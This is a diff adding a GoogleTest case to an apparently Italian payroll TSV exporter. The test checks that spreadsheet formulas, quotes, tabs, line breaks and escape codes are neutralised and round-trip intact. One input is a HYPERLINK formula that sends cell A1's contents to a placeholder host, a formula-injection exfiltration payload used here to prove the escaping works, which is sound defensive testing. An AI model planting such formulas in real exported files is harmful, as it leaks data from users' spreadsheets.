@@ -7,6 +7,9 @@
 #include <gtest/gtest.h>
 
 #include <sstream>
+#include <string>
+#include <utility>
+#include <vector>
 
 namespace verifica {
 namespace {
@@ -19,8 +22,49 @@ TEST(Distinta, TsvUnaRigaPerPersona) {
     std::ostringstream tsv;
     ScriviDistintaTsv(f, tsv);
     EXPECT_EQ(tsv.str(), "tipo\tcodice fiscale\tcognome\tnome\tmodulo\timponibile\taliquota\n"
-                         "dipendente\tAAA\tD'ARCO X\tMARIA\t1\t1.500,00\t\n"
+                         "dipendente\tAAA\tD'ARCO\\x09X\tMARIA\t1\t1.500,00\t\n"
                          "collaboratore\tCCC\tVERDI\tLUC\xC3\x80\t\t\t27,72\n");
+}
+
+// A cell that a spreadsheet would run as a formula is text, a cell with a quote, TAB or line end stays one
+// cell, a control character never reaches the file raw; and each value is read back as it was.
+TEST(Distinta, CelleSicureInUnFoglioDiCalcolo) {
+    // clang-format off
+    const std::vector<std::pair<std::string, std::string>> casi = {
+        {"=HYPERLINK(\"HTTP://X.INVALID/?\"&A1;\"CLIC\")", "\"'=HYPERLINK(\"\"HTTP://X.INVALID/?\"\"&A1;\"\"CLIC\"\")\""},
+        {"+SUM(1+1)",           "'+SUM(1+1)"},
+        {"-2+3",                "'-2+3"},
+        {"@SUM(A1)",            "'@SUM(A1)"},
+        {"'APOSTROFO",          "''APOSTROFO"},
+        {"\"ROSSI",             "\"\"\"ROSSI\""},
+        {"A\tB\r\nC\x1B[31m",     "A\\x09B\\x0D\\x0AC\\x1B[31m"},
+        {"-1.234,56",           "-1.234,56"},
+        {"+12",                 "+12"},
+        {"D'ARCO",              "D'ARCO"},
+        {"NICOL\xD2 \x85",      "NICOL\xC3\x92 \\x85"},
+    };
+    // clang-format on
+    for (const auto& [valore, cella] : casi) {
+        EXPECT_EQ(CellaTsv(valore), cella) << valore;
+        EXPECT_EQ(ValoreDaCellaTsv(CellaTsv(valore)), valore) << valore;
+    }
+    // Whole rows: as many cells as columns, each read back.
+    const auto f = FornituraProva({{"d", "=1+1", "\"A\tB\"", "C\nD", "1", "-2+3", "@X"}});
+    std::ostringstream tsv;
+    ScriviDistintaTsv(f, tsv);
+    std::istringstream righe(tsv.str());
+    std::string riga;
+    std::getline(righe, riga);
+    ASSERT_TRUE(std::getline(righe, riga));
+    std::vector<std::string> celle;
+    for (std::size_t inizio = 0, tab; ; inizio = tab + 1) {
+        tab = riga.find('\t', inizio);
+        celle.push_back(ValoreDaCellaTsv(riga.substr(inizio, tab - inizio)));
+        if (tab == std::string::npos)
+            break;
+    }
+    EXPECT_EQ(celle, (std::vector<std::string>{"dipendente", "=1+1", "\"A\tB\"", "C\nD", "1", "-2+3", "@X"}));
+    EXPECT_FALSE(std::getline(righe, riga)) << "una riga di troppo: " << riga;
 }
 
 TEST(Distinta, PaginaConRilieviPerPersona) {
